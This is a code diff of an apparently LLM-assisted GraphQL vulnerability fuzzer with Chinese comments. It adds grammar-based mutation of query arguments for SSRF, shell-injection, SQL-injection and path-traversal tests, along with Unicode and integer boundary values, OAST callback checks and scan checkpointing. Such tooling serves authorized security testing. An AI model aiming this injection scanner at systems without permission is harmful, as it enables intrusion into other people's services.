+        ['\x00', '\ufeff', '\u202e', '\u200b', '\uff07', '\u0130', '\u00df', '\U0001f4a9', 'a\u0301', '%00',
+         '\\u0000', 'A' * 2048],
+        ['', 'test'],
+    ],
+}
+
+# 整数参数的边界值
+INT_MUTATIONS = ['0', '-1', '2147483647', '-2147483648', '2147483648', '9007199254740993', '99999999999999999999']
+
+# 语法对应的结果类型标签（决定 verify_result 运行哪些验证器）
+MUTATION_GRAMMAR_TYPES = {
+    'url': 'SSRF', 'shell': 'RCE', 'sql': 'SQLi', 'path': 'PATH_TRAVERSAL', 'unicode': 'INPUT_VALIDATION',
+    'int': 'INPUT_VALIDATION',
+}
+
+# 参数风险（analyze_param_risk）到变异语法
+RISK_GRAMMARS = {'ssrf': 'url', 'rce': 'shell', 'sqli': 'sql', 'path_traversal': 'path'}
+
+STRING_ARGUMENT_PATTERN = re.compile(r'(\w+)\s*:\s*"((?:[^"\\]|\\.)*)"')
+INT_ARGUMENT_PATTERN = re.compile(r'(\w+)\s*:\s*(-?\d+)(?![\w.])')
+
+
+def mutation_sites(payload: str, variables: dict = None) -> list:
+    """Payload 中可变异的参数字面量（文档中的字符串 / 整数参数，以及变量中的字符串 / 整数值）"""
+    sites = []
+    for pattern, kind in ((STRING_ARGUMENT_PATTERN, 'string'), (INT_ARGUMENT_PATTERN, 'int')):
+        for match in pattern.finditer(payload):
+            sites.append({'arg': match.group(1), 'kind': kind, 'span': match.span(2), 'value': match.group(2)})
+    for name, value in (variables or {}).items():
+        if isinstance(value, str):
+            sites.append({'arg': name, 'kind': 'string', 'variable': name, 'value': value})
+        elif isinstance(value, int) and not isinstance(value, bool):
+            sites.append({'arg': name, 'kind': 'int', 'variable': name, 'value': str(value)})
+    return sites
+
+
+def expand_grammar(name: str, rng: random.Random, oast_domain: str, marker: str) -> str:
+    """按语法生成一个变异值"""
+    value = ''.join(rng.choice(slot) for slot in MUTATION_GRAMMARS[name])
+    return value.replace('{oast}', oast_domain).replace('{marker}', marker)
 
-    Returns:
-        dict: 测试结果，包含:
-            - success: bool, 最终是否成功
-            - payload: str, 最终使用的 Payload
-            - response_text: str, 响应内容
-            - response_time: float, 响应时间
-            - status_code: int, HTTP 状态码
-            - attempts: list, 每次尝试的记录
-            - error_fixed: bool, 是否修复了错误
-            - fix_method: str, 修复方法（'auto_fix' 或 'llm_fix' 或 'none'）
+
+def apply_mutation(payload: str, variables: dict, site: dict, value: str) -> tuple:
+    """把参数字面量替换为变异值，返回 (payload, variables)"""
+    if 'variable' in site:
+        variables = dict(variables)
+        variables[site['variable']] = int(value) if site['kind'] == 'int' else value
+        return payload, variables
+    start, end = site['span']
+    literal = value if site['kind'] == 'int' else json.dumps(value)[1:-1]
+    return payload[:start] + literal + payload[end:], variables
+
+
+class MutationFuzzer:
     """
-    attempts = []
-    current_payload = payload
-    error_fixed = False
-    fix_method = 'none'
+    基于语法的本地变异 Fuzzing
 
-    for attempt in range(max_retries + 1):
-        # 发送 Payload
-        response_text, elapsed_time, status_code = execute_payload(endpoint, current_payload, timeout)
+    从种子 Payload（Query 的基线请求、各会话测试过且通过了 GraphQL 校验的 Payload）中挑一个参数字面量，
+    按参数名风险选择语法（URL、shell 元字符、SQL 片段、路径穿越、Unicode 边界值；整数参数用边界值）
+    生成变异值后直接发送，不调用 LLM。与各会话并行运行，目标在模型思考期间也保持忙碌。
 
-        attempt_info = {
-            'attempt': attempt + 1,
-            'payload': current_payload,
-            'response_text': response_text,
+    响应交给 ResponseClusterer 聚类作为新颖度反馈：落入新簇的变异体加入种子库，
+    其来源种子提高权重；只产生已知响应的种子逐渐降权。确认漏洞或出现新行为的结果计入报告。
+
+    默认只用 Query 做种子：变异 Mutation 会以数百个变体反复修改目标数据，
+    需要显式开启 include_mutations。
+    """
+
+    MAX_CORPUS = 500
+    CHECKPOINT_LABEL = 'mutation'  # 断点文件中变异结果的会话名
+
+    def __init__(self, workers: int = 2, budget: int = 200, seed: int = None, include_mutations: bool = False):
+        self.workers = max(0, workers)
+        self.budget = max(0, budget)
+        self.include_mutations = include_mutations
+        self._rng = random.Random(seed)
+        self._lock = threading.Lock()
+        self._done = threading.Event()
+        self._threads: list = []
+        self._corpus: list = []
+        self._seed_keys: set = set()
+        self._behaviors: set = set()  # 未启用聚类时的新颖度记录
+        self.fuzzer: dict = {}
+        self.results: list = []
+        self.stats = {'mutants': 0, 'duplicates': 0, 'new_behaviors': 0, 'vulnerable': 0, 'seeds': 0}
+        self.grammar_stats: Dict[str, list] = {}  # 语法 -> [发送数, 新行为数]
+
+    def add_seed(self, payload_info: dict, response_text: str = None, energy: float = 1.0):
+        """加入种子（没有可变异字面量、未通过 GraphQL 校验或未开启 include_mutations 时的非 Query Payload 忽略）"""
+        payload, variables = payload_info['payload'], payload_info.get('variables')
+        if not self.include_mutations and get_operation_type(payload) != 'query':
+            return
+        if response_text and analyze_graphql_error(response_text)['error_type'] in TriageGate.VALIDATION_ERRORS:
+            return
+        sites = mutation_sites(payload, variables)
+        if not sites:
+            return
+        key = payload_fingerprint(payload, variables)
+        with self._lock:
+            if key in self._seed_keys:
+                return
+            self._seed_keys.add(key)
+            self._corpus.append({'payload': payload, 'variables': variables, 'sites': sites, 'energy': energy})
+            self.stats['seeds'] += 1
+            if len(self._corpus) > self.MAX_CORPUS:
+                self._corpus.remove(min(self._corpus, key=lambda s: s['energy']))
+
+    def _next_mutant(self) -> Optional[dict]:
+        with self._lock:
+            if not self._corpus:
+                return None
+            seed = self._rng.choices(self._corpus, weights=[s['energy'] for s in self._corpus])[0]
+            site = self._rng.choice(seed['sites'])
+            if site['kind'] == 'int':
+                grammar, value = 'int', self._rng.choice(INT_MUTATIONS)
+            else:
+                grammars = [RISK_GRAMMARS[r] for r in analyze_param_risk(site['arg']) if r in RISK_GRAMMARS]
+                grammar = self._rng.choice(grammars + ['unicode'] if grammars else list(MUTATION_GRAMMARS))
+                value = expand_grammar(grammar, self._rng, self.fuzzer['oast_domain'],
+                                       f"{self._rng.randrange(16 ** 6):06x}")
+                if grammar in ('shell', 'sql') or (grammar == 'unicode' and self._rng.random() < 0.5):
+                    value = site['value'] + value  # 注入片段接在原值之后
+        payload, variables = apply_mutation(seed['payload'], seed['variables'], site, value)
+        return {'seed': seed, 'grammar': grammar, 'arg': site['arg'], 'payload': payload, 'variables': variables,
+                'type': MUTATION_GRAMMAR_TYPES[grammar]}
+
+    def _run(self, mutant: dict):
+        f = self.fuzzer
+        payload, variables = mutant['payload'], mutant['variables']
+        response_text, elapsed_time, status_code = execute_payload(f['endpoint'], payload, f['timeout'], variables)
+        result = {
+            'type': mutant['type'],
+            'payload': payload,
+            'original_payload': payload,
+            'status_code': status_code,
             'response_time': elapsed_time,
-            'status_code': status_code
+            'vulnerable': False,
+            'details': '',
+            'response_snippet': (response_text[:500] if response_text else '空响应'),
+            'analysis': f"变异 Fuzzing（{mutant['grammar']} 语法，参数 {mutant['arg']}），未经 AI 分析",
+            'error_fixed': False,
+            'fix_method': 'none',
+            'attempts': [],
+            'source': 'mutation',
+            'grammar': mutant['grammar'],
         }
-        attempts.append(attempt_info)
-
-        # 如果响应为空且未超时，可能是网络问题，不再重试
-        if not response_text and elapsed_time < timeout:
-            return {
-                'success': False,
-                'payload': current_payload,
-                'response_text': response_text,
-                'response_time': elapsed_time,
-                'status_code': status_code,
-                'attempts': attempts,
-                'error_fixed': error_fixed,
-                'fix_method': fix_method,
-                'message': '请求失败，可能是网络问题'
-            }
+        if variables:
+            result['variables'] = variables
+        if response_text is None:
+            f['dedup'].release(payload, variables)
+            return
+        f['dedup'].record(payload, result, variables)
+
+        vulnerable = verify_result(result, response_text, f['oast_domain'], f['baseline'], f['timing'])
+        is_new = self._is_new(result, response_text)
+        f['coverage'].record(result)
+        if f['checkpoint']:
+            f['checkpoint'].write_result(self.CHECKPOINT_LABEL, result, response_text)
+
+        seed = mutant['seed']
+        with self._lock:
+            counts = self.grammar_stats.setdefault(mutant['grammar'], [0, 0])
+            counts[0] += 1
+            if is_new:
+                counts[1] += 1
+                self.stats['new_behaviors'] += 1
+                scan_budget.record_yield('deterministic')
+                seed['energy'] = min(seed['energy'] * 1.5 + 0.5, 10.0)
+            else:
+                seed['energy'] = max(seed['energy'] * 0.9, 0.1)
+            if vulnerable:
+                self.stats['vulnerable'] += 1
+            if vulnerable or is_new:
+                self.results.append(result)
+        if is_new:
+            log_info(f"  🧬 变异 [{mutant['grammar']}] {mutant['arg']} 产生新响应 (HTTP {status_code})")
+            self.add_seed(mutant, response_text, energy=2.0)
+
+    def _is_new(self, result: dict, response_text: str) -> bool:
+        """响应是否为新行为（启用聚类时落入新簇，否则按语法、状态码、结构和错误类型判断）"""
+        if self.fuzzer['clusterer'] is not None:
+            return self.fuzzer['clusterer'].assign(result, response_text)[1]
+        behavior = (result['grammar'], result['status_code'], response_shape(response_text),
+                    analyze_graphql_error(response_text)['error_type'])
+        with self._lock:
+            is_new = behavior not in self._behaviors
+            self._behaviors.add(behavior)
+        return is_new
+
+    def restore(self, result: dict, response_text: str):
+        """续扫时回放断点中的变异结果（计入预算和统计，确认漏洞或新行为的结果计入报告）"""
+        is_new = self._is_new(result, response_text)
+        with self._lock:
+            self.stats['mutants'] += 1
+            counts = self.grammar_stats.setdefault(result.get('grammar', 'unknown'), [0, 0])
+            counts[0] += 1
+            if is_new:
+                counts[1] += 1
+                self.stats['new_behaviors'] += 1
+            if result.get('vulnerable'):
+                self.stats['vulnerable'] += 1
+            if result.get('vulnerable') or is_new:
+                self.results.append(result)
+        if is_new:
+            self.add_seed(result, response_text, energy=2.0)
+
+    def _worker(self):
+        stop = self.fuzzer['stop']
+        scan_budget.phase = 'deterministic'
+        while not self._done.is_set() and not stop.is_set():
+            if not scan_budget.allow('deterministic'):
+                scan_budget.end('deterministic')
+                return
+            mutant = self._next_mutant()
+            if mutant is None:
+                self._done.wait(0.2)  # 等待会话产生种子
+                continue
+            with self._lock:
+                if self.stats['mutants'] >= self.budget or self.stats['duplicates'] >= self.budget * 5:
+                    return
+                if not self.fuzzer['dedup'].reserve(mutant['payload'], mutant['variables']):
+                    self.stats['duplicates'] += 1
+                    continue
+                self.stats['mutants'] += 1
+            try:
+                self._run(mutant)
+            except BudgetExhausted:
+                self.fuzzer['dedup'].release(mutant['payload'], mutant['variables'])
+                return
+            except Exception as e:
+                self.fuzzer['dedup'].release(mutant['payload'], mutant['variables'])
+                log_warning(f"  变异 Payload 执行失败: {e}")
+
+    def start(self, fuzzer: dict):
+        """开始后台变异（fuzzer 为 intelligent_fuzzing 的共享状态）"""
+        self.fuzzer = fuzzer
+        if not self.workers or not self.budget:
+            return
+        log_info(f"启动变异 Fuzzing（{self.workers} 个线程，最多 {self.budget} 个变异 Payload，"
+                 f"{self.stats['seeds']} 个初始种子）")
+        for _ in range(self.workers):
+            thread = threading.Thread(target=self._worker, daemon=True)
+            thread.start()
+            self._threads.append(thread)
+
+    def finish(self):
+        """停止变异，等待进行中的请求结束（设置了时间预算时不超过报告预留时间的一半）"""
+        self._done.set()
+        for thread in self._threads:
+            thread.join(max(0.0, min(self.fuzzer.get('timeout', 10) + 5,
+                                     scan_budget.time_left() + scan_budget.report_reserve / 2)))
+        scan_budget.end('deterministic')
+        if self.stats['mutants']:
+            log_info(f"变异 Fuzzing: 发送 {self.stats['mutants']} 个，新行为 {self.stats['new_behaviors']} 个，"
+                     f"确认漏洞 {self.stats['vulnerable']} 个")
+
+    def summary(self) -> dict:
+        with self._lock:
+            summary = dict(self.stats, corpus=len(self._corpus))
+            yields = [f"{name} {new}/{sent}" for name, (sent, new) in sorted(self.grammar_stats.items())]
+        if yields:
+            summary['grammar_yield'] = ', '.join(yields)
+        return summary
 
-        # 分析响应中的错误
-        if response_text:
-            error_info = analyze_graphql_error(response_text)
-        else:
-            error_info = {'has_error': False}
 
-        # 如果没有错误，返回成功
-        if not error_info['has_error']:
-            return {
-                'success': True,
-                'payload': current_payload,
-                'response_text': response_text,
-                'response_time': elapsed_time,
-                'status_code': status_code,
-                'attempts': attempts,
-                'error_fixed': error_fixed,
-                'fix_method': fix_method,
-                'message': 'Payload 执行成功'
-            }
+# =============================================================================
+# 断点续扫
+# =============================================================================
 
-        # 如果有错误且还有重试次数
-        if attempt < max_retries:
-            log_info(f"  🔄 检测到错误，尝试修复 (重试 {attempt + 1}/{max_retries})...")
-            log_info(f"     错误: {error_info['error_type']} - {error_info.get('error_message', '')[:80]}")
+class ScanCheckpoint:
+    """
+    扫描断点（追加写入的 JSONL 文件）
+
+    每行一条记录：
+    - meta: 目标、端点、开始时间、LLM 缓存目录（续扫时 LLM 调用可直接命中缓存）
+    - result: 一个测试结果（验证后立即写入，本轮分析完成后以最终结果再写一次）
+    - round: 某个会话完成一轮（含新颖度），随后 fsync
+    - session_done: 某个会话已结束
+    变异 Fuzzing 的结果以会话名 MutationFuzzer.CHECKPOINT_LABEL 写入。
+    续扫（--resume）时按顺序回放：成功发送的 Payload 指纹进入去重表（失败的会重新发送），
+    结果、轮次和反馈历史恢复到对应会话，覆盖率、优先级、聚类和新颖度按结果重建。
+    """
 
-            # 第一次尝试：自动修复
-            if attempt == 0:
-                fixed_payload, success, message = auto_fix_payload(current_payload, error_info)
-                if success:
-                    current_payload = fixed_payload
-                    error_fixed = True
-                    fix_method = 'auto_fix'
-                    log_info(f"  ✅ 自动修复: {message}")
-                    continue
+    VERSION = 1
+    RESPONSE_LIMIT = 4000  # 保存的响应长度（用于续扫时重建聚类和新颖度）
 
-            # 第二次尝试：LLM 修复
-            if attempt == 1 and model:
-                fixed_payload, success, message = retry_with_llm(current_payload, error_info, endpoint, model, api_key)
-                if success:
-                    current_payload = fixed_payload
-                    error_fixed = True
-                    fix_method = 'llm_fix'
-                    log_info(f"  ✅ LLM 修复: {message}")
-                    continue
+    def __init__(self, path: str):
+        self.path = path
+        self._file = None
+        self._lock = threading.Lock()
 
-            log_warning(f"  ⚠️  无法自动修复，使用原始 Payload")
+    def load(self) -> Optional[dict]:
+        """
+        读取断点文件
 
-    # 所有重试都失败
-    return {
-        'success': False,
-        'payload': current_payload,
-        'response_text': response_text,
-        'response_time': elapsed_time,
-        'status_code': status_code,
-        'attempts': attempts,
-        'error_fixed': error_fixed,
-        'fix_method': fix_method,
-        'message': f'达到最大重试次数 ({max_retries})，仍有错误'
-    }
+        Returns:
+            dict: {'meta': ..., 'results': [(会话, 结果, 响应文本, 是否失败), ...], 'sessions': {会话: 状态}}；
+                  文件不存在时返回 None
+        """
+        if not os.path.exists(self.path):
+            return None
+        meta, results, sessions = {}, OrderedDict(), {}
+        with open(self.path, 'r', encoding='utf-8') as f:
+            for line in f:
+                try:
+                    record = json.loads(line)
+                except ValueError:
+                    continue  # 中断时可能留下不完整的最后一行
+                kind = record.get('kind')
+                if kind == 'meta':
+                    meta = record
+                elif kind == 'result':
+                    result = record['result']
+                    key = payload_fingerprint(result['original_payload'], result.get('variables'))
+                    results[key] = (record['session'], result, record.get('response_text', ''),
+                                    record.get('failed', False))
+                elif kind == 'round':
+                    state = sessions.setdefault(record['session'], {'round': 0, 'novelty': [], 'done': False})
+                    state['round'] = max(state['round'], record['round'])
+                    if record.get('novelty') is not None:
+                        state['novelty'].append(record['novelty'])
+                elif kind == 'session_done':
+                    sessions.setdefault(record['session'], {'round': 0, 'novelty': [], 'done': False})['done'] = True
+        return {'meta': meta, 'results': list(results.values()), 'sessions': sessions}
+
+    def open(self, meta: dict, resume: bool = False):
+        """打开断点文件：续扫时追加，否则重新开始并写入 meta"""
+        self._file = open(self.path, 'a' if resume else 'w', encoding='utf-8')
+        if not resume:
+            self._write(dict(meta, kind='meta', version=self.VERSION, started=time.strftime('%Y-%m-%d %H:%M:%S')),
+                        sync=True)
+
+    def _write(self, record: dict, sync: bool = False):
+        line = json.dumps(record, ensure_ascii=False, default=str)
+        with self._lock:
+            if self._file is None:
+                return  # 未打开或已关闭（中断后仍在收尾的线程）
+            self._file.write(line + '\n')
+            self._file.flush()
+            if sync:
+                os.fsync(self._file.fileno())
+
+    def write_result(self, session: str, result: dict, response_text: str = '', failed: bool = False):
+        self._write({'kind': 'result', 'session': session, 'failed': failed, 'result': result,
+                     'response_text': (response_text or '')[:self.RESPONSE_LIMIT]})
+
+    def write_round(self, session: str, round_: int, novelty: float = None):
+        self._write({'kind': 'round', 'session': session, 'round': round_, 'novelty': novelty}, sync=True)
+
+    def write_session_done(self, session: str):
+        self._write({'kind': 'session_done', 'session': session}, sync=True)
+
+    def close(self):
+        with self._lock:
+            if self._file is not None:
+                self._file.close()
+                self._file = None
+
+
+def default_checkpoint_path(output_file: str) -> str:
+    """断点文件默认与报告放在一起: report.html -> report.checkpoint.jsonl"""
+    return f"{os.path.splitext(output_file)[0]}.checkpoint.jsonl"
 
 
 # =============================================================================
 # 智能 Fuzzing 系统
 # =============================================================================
 
-def intelligent_fuzzing(endpoint: str, mutations: list, oast_domain: str, model: str, api_key: str,
-                       timeout: int = 10, max_iterations: int = 3, queries: list = None, llm_timeout: int = 60) -> list:
+FUZZ_SESSION_MODES = ('cluster', 'operation', 'global')
+
+
+def build_fuzz_sessions(mutations: list, queries: list, mode: str = 'cluster', ranking: list = None) -> list:
     """
-    智能 Fuzzing 系统：AI 驱动的迭代式漏洞测试
+    按会话模式划分 Fuzzing 会话的操作集合
 
-    核心思想：
-    1. 生成初始 Payloads（基于 Mutations 和/或 Queries）
-    2. 发送并记录响应
-    3. AI 分析响应
-    4. 根据分析生成新的 Payloads
-    5. 重复 2-4，直到找到漏洞或达到最大迭代次数
+    - cluster: 按 (操作类型, 主要风险) 聚簇，每簇一个会话
+    - operation: 每个操作一个会话
+    - global: 整个 Schema 一个会话
+
+    Returns:
+        list: [{'label': ..., 'mutations': [...], 'queries': [...]}, ...]，按优先级排序
     """
-    print(f"\n{Colors.CYAN}{'='*60}")
-    print(f"🧠 智能 AI Fuzzing 模式 (最多 {max_iterations} 轮迭代)")
-    print(f"{'='*60}{Colors.RESET}\n")
+    if mode == 'global':
+        return [{'label': 'schema', 'mutations': list(mutations or []), 'queries': list(queries or [])}]
+    if mode == 'operation':
+        rank = {name: i for i, name in enumerate(ranking or [])}
+        sessions = [{'label': op['name'], 'mutations': [op], 'queries': []} for op in mutations or []]
+        sessions += [{'label': op['name'], 'mutations': [], 'queries': [op]} for op in queries or []]
+        return sorted(sessions, key=lambda item: rank.get(item['label'], len(rank)))
+    return cluster_operations(mutations, queries, ranking)
 
-    all_results = []
-    previous_attempts = []
 
-    for iteration in range(1, max_iterations + 1):
-        print(f"\n{Colors.BOLD}{Colors.YELLOW}{'━'*60}")
-        print(f"第 {iteration} 轮 Fuzzing")
-        print(f"{'━'*60}{Colors.RESET}\n")
+class FuzzSession:
+    """
+    单个 Fuzzing 会话：一个操作或一簇相关操作的迭代测试
+
+    每个会话有自己的轮次和反馈历史（previous_attempts），只把本会话操作的结果
+    反馈给 LLM；去重、优先级、覆盖率和分诊在所有会话间共享。
+    目标请求经 request_gate、LLM 调用经 llm_client 线程池，受全局并发上限约束，
+    因此顽固的操作可以多迭代几轮，而不会拖住 Schema 其余部分的测试。
+    """
+
+    def __init__(self, label: str, mutations: list, queries: list, fuzzer: dict, show_label: bool = True):
+        self.label = label
+        self.mutations = mutations
+        self.queries = queries
+        self.names = [op['name'] for op in mutations + queries]
+        self.fuzzer = fuzzer  # intelligent_fuzzing 的参数和共享组件
+        self.prefix = f"[{label}] " if show_label else ""
+        self.iteration = 0
+        self.max_rounds = 0
+        self.novelty_history = []
+        self.round_requests = 0
+        self.unaggregated: list = []  # 本轮已验证、尚未汇总的结果（中断时仍写入报告）
+        self.previous_attempts = []
+        self.results = []
+        self.found = 0
+        self.done = False
+        self._deterministic_done = False
+        self._shards = None
+
+    def summary(self) -> str:
+        summary = f"{self.iteration} 轮, {len(self.results)} 个结果, {self.found} 个漏洞"
+        if self.novelty_history:
+            summary += f", 新颖度 {' → '.join(f'{n:.0%}' for n in self.novelty_history)}"
+        return summary
+
+    def restore(self, state: dict):
+        """从断点恢复轮次和新颖度历史（结果由 intelligent_fuzzing 回放）"""
+        self.iteration = state['round']
+        self.novelty_history = list(state['novelty'])
+        self.done = state['done']
+
+    def run(self, max_iterations: int) -> list:
+        """
+        运行本会话直到结束（达到轮数、生成失败或预算用尽）
+
+        启用新颖度跟踪时轮数自适应：第 2 轮起某轮没有任何新行为就提前结束，
+        到达 max_iterations 时新颖度仍高则从共享池追加轮次。
+        """
+        novelty = self.fuzzer['novelty']
+        stop = self.fuzzer['stop']
+        if self.done:
+            return self.results
+        self.max_rounds = max(max_iterations, self.iteration)
+        while not self.done and not stop.is_set():
+            if self.iteration >= self.max_rounds:
+                if not (novelty and self.novelty_history and self.novelty_history[-1] >= novelty.threshold
+                        and novelty.take_extra_round()):
+                    break
+                self.max_rounds += 1
+                log_info(f"{self.prefix}新颖度仍有 {self.novelty_history[-1]:.0%}，追加第 {self.max_rounds} 轮")
+            if not scan_budget.allow_round():
+                log_info(f"{self.prefix}剩余扫描预算不足以再跑一轮，结束会话")
+                return self.results
+            round_start = time.time()
+            self.run_round()
+            scan_budget.record_round(time.time() - round_start, self.round_requests)
+            if (novelty and not self.done and self.iteration > 1 and self.novelty_history[-1] == 0
+                    and self.iteration < self.max_rounds):
+                log_info(f"{self.prefix}本轮没有出现新的响应行为，提前结束会话"
+                         f"（剩余 {self.max_rounds - self.iteration} 轮放回共享池）")
+                break
+        if stop.is_set():
+            return self.results
+        if novelty:
+            novelty.release_rounds(self.max_rounds - self.iteration)
+        if self.fuzzer['checkpoint']:
+            self.fuzzer['checkpoint'].write_session_done(self.label)
+        return self.results
+
+    def _generate(self):
+        """
+        生成本轮 Payload
+
+        Returns:
+            tuple: (payloads, payload_stream)；payloads 为 None 表示本会话结束
+        """
+        f = self.fuzzer
+        scheduler = f['scheduler']
+        iteration = self.iteration
 
-        # 1. 生成 Payload（第1轮是初始，后续轮次会参考之前的尝试）
         if iteration == 1:
-            log_info("生成初始 Payloads...")
+            log_info(f"{self.prefix}生成初始 Payloads...")
         else:
-            log_info(f"基于前 {len(previous_attempts)} 次尝试的响应分析，生成优化 Payloads...")
-
-        llm_response = generate_payloads_with_llm(
-            mutations,
-            oast_domain,
-            model,
-            api_key,
+            log_info(f"{self.prefix}基于前 {len(self.previous_attempts)} 次尝试的响应分析，生成优化 Payloads...")
+
+        ranking = scheduler.ranked_operations(self.names)
+        if f['max_prompt_operations'] or self._shards is None:
+            # 未限制提示词操作数时分片计划在会话中固定，保持各轮提示词前缀一致；
+            # 本轮的侧重点通过末尾的覆盖提示表达
+            round_mutations, round_queries = scheduler.select_operations(f['max_prompt_operations'], self.names)
+            self._shards = shard_operations(round_mutations, round_queries, f['shard_tokens'], ranking)
+        for shard in self._shards:
+            # 覆盖提示只列出该分片 Schema 中的操作，模型看不到的操作不提示
+            shard_names = {op['name'] for op in shard['mutations'] + shard['queries']}
+            shard_ranking = [name for name in ranking if name in shard_names]
+            shard['coverage_hint'] = (f['coverage'].format_for_prompt(shard_ranking)
+                                      if iteration > 1 and shard_ranking else None)
+
+        generate_args = dict(
             iteration=iteration,
-            previous_attempts=previous_attempts,
-            queries=queries,
-            llm_timeout=llm_timeout
+            previous_attempts=self.previous_attempts,
+            llm_timeout=f['llm_timeout'],
+            output_mode=f['output_mode']
         )
-
-        if not llm_response:
-            log_error(f"第 {iteration} 轮 Payload 生成失败")
-            break
-
-        # 2. 解析 Payload
-        payloads = parse_payloads(llm_response)
+        if llm_client.usage.exhausted():
+            # LLM 预算用尽：改用确定性模板生成一轮，之后结束
+            if self._deterministic_done:
+                log_info(f"{self.prefix}LLM 预算已用尽，确定性 Payload 已测试完毕，结束会话")
+                return None, None
+            self._deterministic_done = True
+            log_warning(f"{self.prefix}第 {iteration} 轮改用确定性模板生成 Payload")
+            payloads = scheduler.order_payloads(
+                generate_deterministic_payloads(self.mutations, self.queries, f['oast_domain'], ranking))
+            if not payloads:
+                log_warning(f"{self.prefix}没有可用于模板生成的风险参数")
+                return None, None
+            log_success(f"{self.prefix}生成 {len(payloads)} 个确定性 Payloads")
+            return payloads, None
+
+        if f['stream']:
+            payload_stream = stream_payloads_sharded(self._shards, f['oast_domain'], f['model'], f['api_key'],
+                                                     **generate_args)
+            return payload_stream, payload_stream
+
+        payloads = generate_payloads_sharded(self._shards, f['oast_domain'], f['model'], f['api_key'], **generate_args)
+        if payloads is None:
+            log_error(f"{self.prefix}第 {iteration} 轮 Payload 生成失败")
+            return None, None
         if not payloads:
-            log_warning(f"第 {iteration} 轮未能解析出有效 Payload")
-            break
-
-        log_success(f"生成 {len(payloads)} 个 Payloads")
+            log_warning(f"{self.prefix}第 {iteration} 轮未能解析出有效 Payload")
+            return None, None
+        log_success(f"{self.prefix}生成 {len(payloads)} 个 Payloads")
+        return scheduler.order_payloads(payloads), None
+
+    def run_round(self):
+        """运行一轮：生成 → 流水线测试 → 按提交顺序汇总"""
+        f = self.fuzzer
+        max_iterations = self.max_rounds
+        dedup, scheduler, coverage, triage = f['dedup'], f['scheduler'], f['coverage'], f['triage']
+        clusterer, checkpoint, stop = f['clusterer'], f['checkpoint'], f['stop']
+        endpoint, timeout, model, api_key, oast_domain = (f['endpoint'], f['timeout'], f['model'],
+                                                          f['api_key'], f['oast_domain'])
+        self.iteration += 1
+        self.round_requests = 0
+        iteration = self.iteration
+        llm_client.usage.round = iteration
+        print(f"\n{Colors.BOLD}{Colors.YELLOW}{'━'*60}")
+        print(f"{self.prefix}第 {iteration} 轮 Fuzzing")
+        print(f"{'━'*60}{Colors.RESET}\n")
 
-        # 3. 测试每个 Payload
-        iteration_found_vulns = False
+        # 1. 生成 Payload（第1轮是初始，后续轮次会参考本会话之前的尝试）
+        payloads, payload_stream = self._generate()
+        if payloads is None:
+            self.done = True
+            return
+
+        # 2. 流水线测试：执行 → 验证 → 分析 各阶段并发（流式模式下边生成边测试）
+        def dispatch():
+            for i, payload_info in enumerate(payloads):
+                if stop.is_set():
+                    return
+                if not scan_budget.allow('llm_rounds'):
+                    log_warning(f"{self.prefix}LLM 轮次的请求预算已用完，本轮剩余 Payload 不再测试")
+                    return
+                payload = payload_info['payload']
+                progress = f"{i+1}/{len(payloads)}" if payload_stream is None else f"{i+1}"
+                print(f"\n  {Colors.BLUE}{self.prefix}[Payload #{progress}] {payload_info['type']}{Colors.RESET}")
+                print(f"  {Colors.WHITE}{payload[:150]}...{Colors.RESET}" if len(payload) > 150 else f"  {Colors.WHITE}{payload}{Colors.RESET}")
+
+                # 等价 Payload 已在本次扫描中测试过，直接复用之前的结果
+                previous = dedup.lookup(payload, payload_info.get('variables'))
+                if previous is not None:
+                    log_info(f"  ⏭️  跳过重复 Payload（与第 {previous.get('round', '?')} 轮的测试等价）")
+                    continue
+                if not dedup.reserve(payload, payload_info.get('variables')):
+                    log_info("  ⏭️  跳过重复 Payload（其他会话正在测试等价的 Payload）")
+                    continue
+                yield -scheduler.payload_priority(payload_info), (i + 1, payload_info)
 
-        for i, payload_info in enumerate(payloads):
+        def execute(item):
+            # 未发送（已停止 / 预算用尽）或执行异常时释放 dispatch 中占用的指纹
+            _, payload_info = item
+            try:
+                record = send(item)
+            except Exception:
+                dedup.release(payload_info['payload'], payload_info.get('variables'))
+                raise
+            if record is None:
+                dedup.release(payload_info['payload'], payload_info.get('variables'))
+            return record
+
+        def send(item):
+            if stop.is_set():
+                return None
+            llm_client.usage.round = iteration
+            scan_budget.phase = 'llm_rounds'
+            index, payload_info = item
             vuln_type = payload_info['type']
             payload = payload_info['payload']
 
-            print(f"\n  {Colors.BLUE}[Payload #{i+1}/{len(payloads)}] {vuln_type}{Colors.RESET}")
-            print(f"  {Colors.WHITE}{payload[:150]}...{Colors.RESET}" if len(payload) > 150 else f"  {Colors.WHITE}{payload}{Colors.RESET}")
-
             # 使用 test_payload 发送 Payload（带自动错误修复和重试）
             test_result = test_payload(
                 endpoint=endpoint,
@@ -2122,23 +6042,26 @@ def intelligent_fuzzing(endpoint: str, mutations: list, oast_domain: str, model:
                 timeout=timeout,
                 model=model,
                 api_key=api_key,
-                max_retries=2
+                max_retries=2,
+                variables=payload_info.get('variables'),
+                timing_sensitive=is_timing_sensitive(vuln_type, payload, payload_info.get('variables'))
             )
+            if test_result.get('budget_exhausted'):
+                return None  # 未发送，不作为失败结果记录
 
             response_text = test_result['response_text']
             elapsed_time = test_result['response_time']
             status_code = test_result['status_code']
 
             # 记录错误修复信息
-            if test_result['error_fixed']:
-                fix_info = f"修复方法: {test_result['fix_method']}"
-                if test_result['fix_method'] == 'auto_fix':
-                    log_info(f"  🔧 自动修复已应用")
-                elif test_result['fix_method'] == 'llm_fix':
-                    log_info(f"  🤖 LLM 修复已应用")
+            if test_result['fix_method'] == 'auto_fix':
+                log_info(f"  🔧 {self.prefix}#{index} 自动修复已应用")
+            elif test_result['fix_method'] == 'llm_fix':
+                log_info(f"  🤖 {self.prefix}#{index} LLM 修复已应用")
 
             result = {
                 'round': iteration,
+                'session': self.label,
                 'type': vuln_type,
                 'payload': test_result['payload'],  # 使用最终（可能被修复）的 payload
                 'original_payload': payload,  # 保存原始 payload
@@ -2152,111 +6075,377 @@ def intelligent_fuzzing(endpoint: str, mutations: list, oast_domain: str, model:
                 'fix_method': test_result['fix_method'],
                 'attempts': test_result.get('attempts', [])
             }
+            for key in ('variables', 'expected_signal'):
+                if payload_info.get(key):
+                    result[key] = payload_info[key]
 
-            if not test_result['success'] and not response_text and elapsed_time < timeout:
-                log_error("  ❌ 请求失败")
+            failed = not test_result['success'] and not response_text and elapsed_time < timeout
+            if failed:
+                log_error(f"  ❌ {self.prefix}#{index} [{vuln_type}] 请求失败")
